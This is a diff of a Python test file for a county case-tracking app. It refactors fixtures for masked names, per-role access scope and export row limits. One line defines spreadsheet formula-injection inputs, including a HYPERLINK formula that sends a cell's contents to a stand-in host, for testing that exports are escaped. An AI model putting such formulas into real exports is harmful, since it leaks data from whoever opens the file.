@@ -13,10 +13,11 @@ from flask import Flask
 from sqlalchemy import select
 from sqlalchemy.orm import Session
 
-from tests.cases.factory import TODAY, County, kept, reader
 from tests.client import Client, settle
 from tests.conftest import Clock
 from tests.people.factories import make_department, make_user, sign_in
+from tests.world.county import County
+from tests.world.rows import TODAY, a_case, assigned, kept, reader
 from tracker.audit import Event, record
 from tracker.audit.models import AuditEvent
 from tracker.audit.queries import verify
@@ -35,13 +36,14 @@ NASTY = ('=HYPERLINK("http://x/?"&B1)', "+1", "-1", "@SUM(A1)", "a\x0bb\u202egpj
 
 
 @pytest.fixture
-def county(session: Session) -> County:
-    """Give a county with ten cases, nasty ones among them, and an accusation that only one person may know of."""
-    county = County()
+def county(county: County) -> County:
+    """Give the county with ten cases, nasty ones among them, and an accusation that only one person may know of."""
     for number, text in enumerate(NASTY):
-        county.case(text[:200], summary=text, names=("欧阳建国",), village_id=county.village.id if number % 2 else None)
-    county.assign(county.case("交给民政局的件", names=("张建国",)))
-    secret = county.case("检举某某", summary="内容绝密", level="accusation", names=("举报人",), purpose="accusation")
+        a_case(
+            county, text[:200], summary=text, names=("欧阳建国",), village_id=county.village.id if number % 2 else None
+        )
+    assigned(a_case(county, "交给民政局的件", names=("张建国",)), county.civil)
+    secret = a_case(county, "检举某某", summary="内容绝密", level="accusation", names=("举报人",), purpose="accusation")
     kept(NamedReader(case_id=secret.id, user_id=county.acceptor.id, because="登记人", added_at=core_clock.now()))
     return county
 
@@ -90,7 +92,7 @@ def test_names_are_masked_and_control_characters_visible(county: County, clock: 
 
 
 @pytest.mark.parametrize(
-    ("who", "count"), [("acceptor", 10), ("handler", 1), ("head", 1), ("stranger", 0), ("leader", 0)]
+    ("who", "count"), [("acceptor", 10), ("handler", 1), ("unit_head", 1), ("stranger", 0), ("lead", 0)]
 )
 def test_everybody_gets_his_own_scope(county: County, clock: Clock, who: str, count: int) -> None:
     person: User = getattr(county, who)
@@ -210,16 +212,13 @@ def test_the_page_gives_the_list_of_its_address(office: tuple[User, User], new_c
 
 
 def test_too_long_a_list_is_refused_on_the_page_with_a_sentence(
-    county: County, new_client: Callable[[], Client], monkeypatch: pytest.MonkeyPatch
+    county: County, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    client = new_client()
     settle()
     with committed():
-        sign_in_as = make_user(roles=[(Role.ACCEPTOR, county.office)])
         record(Event.DEMO_LOADED, by=None, now=core_clock.now())
-    sign_in(client, sign_in_as)
     monkeypatch.setattr(exports, "MOST_ROWS", 3)
-    answer = client.get("/export/ledger")
+    answer = county.browser("checker").get("/export/ledger")
     assert (answer.status_code, "一次最多导出 3 件" in answer.text) == (422, True)
 
 
